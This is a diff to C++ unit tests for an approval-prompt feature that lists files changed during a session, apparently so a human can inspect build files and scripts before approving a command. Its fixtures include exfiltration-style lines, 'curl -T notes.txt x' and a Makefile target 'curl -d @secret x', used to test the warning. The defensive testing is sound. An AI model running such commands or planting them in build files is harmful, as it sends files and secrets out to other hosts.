@@ -51,8 +51,8 @@ TEST(ChangedFiles, FilesChangedSinceTheStartAreListedNewestFirst) {
   EXPECT_FALSE(changed.walk_cut);
 
   const std::string prompt = describe_changed_files(changed, "sh src/build.sh && curl -T notes.txt x", 2);
-  EXPECT_NE(prompt.find("changed since this session began (3, 3 of them named in the command, programs, scripts or "
-                        "build files)"),
+  EXPECT_NE(prompt.find("changed since this session began (3: 2 named in the command or read by a program it names, "
+                        "0 build files, 1 programs or scripts)"),
             std::string::npos)
       << prompt;
   EXPECT_NE(prompt.find(":\n  notes.txt (named in the command)\n  src/build.sh (named in the command)\n  old.sh"),
@@ -76,23 +76,29 @@ TEST(ChangedFiles, AFolderTheWalkCannotReadIsNamed) {
   EXPECT_TRUE(changed.files[0].unreadable_folder);
 }
 
-// Many other files touched after a script cannot push it out of the list:
-// programs, scripts and build files come before the rest.
+// Many other files touched after a build file cannot push it out of the
+// list: the files a program in the command reads count as named, build
+// files come before scripts, scripts before the rest.
 TEST(ChangedFiles, DecoysDoNotHideABuildFile) {
   const std::string ws = fs::canonical(make_temp_dir("ws")).string();
-  for (int i = 0; i < 20; ++i) write_file(ws + "/src/f" + std::to_string(i) + ".c", "int x;\n");
+  for (int i = 0; i < 80; ++i) write_file(ws + "/src/f" + std::to_string(i) + ".py", "x = 1\n");
   write_file(ws + "/Makefile", "all:\n\ttrue\n");
   next_tick();
   const int64_t start = change_clock_now_ns();
   next_tick();
   write_file(ws + "/Makefile", "deps:\n\tcurl -d @secret x\n");
   next_tick();
-  for (int i = 0; i < 20; ++i) ::chmod((ws + "/src/f" + std::to_string(i) + ".c").c_str(), 0600);
-  const std::string prompt = describe_changed_files(changed_since(ws, start), "make deps");
-  EXPECT_NE(prompt.find("(21, 1 of them named in the command, programs, scripts or build files)"), std::string::npos)
-      << prompt;
-  EXPECT_NE(prompt.find("build files), which the command may run; read them before you approve:\n  Makefile\n"),
+  for (int i = 0; i < 80; ++i) write_file(ws + "/src/f" + std::to_string(i) + ".py", "x = 2\n");
+  const ChangedFiles changed = changed_since(ws, start);
+  std::string prompt = describe_changed_files(changed, "make deps");
+  EXPECT_NE(prompt.find("(81: 1 named in the command or read by a program it names, 0 build files, 80 programs or "
+                        "scripts)"),
             std::string::npos)
       << prompt;
-  EXPECT_NE(prompt.find("\n  ... and 6 more"), std::string::npos) << prompt;
+  EXPECT_NE(prompt.find("read them before you approve:\n  Makefile (read by a program the command names)\n"),
+            std::string::npos)
+      << prompt;
+  prompt = describe_changed_files(changed, "sh run.sh");  // run.sh runs make: not said
+  EXPECT_NE(prompt.find("read them before you approve:\n  Makefile\n"), std::string::npos) << prompt;
+  EXPECT_NE(prompt.find("\n  ... and 21 more"), std::string::npos) << prompt;
 }
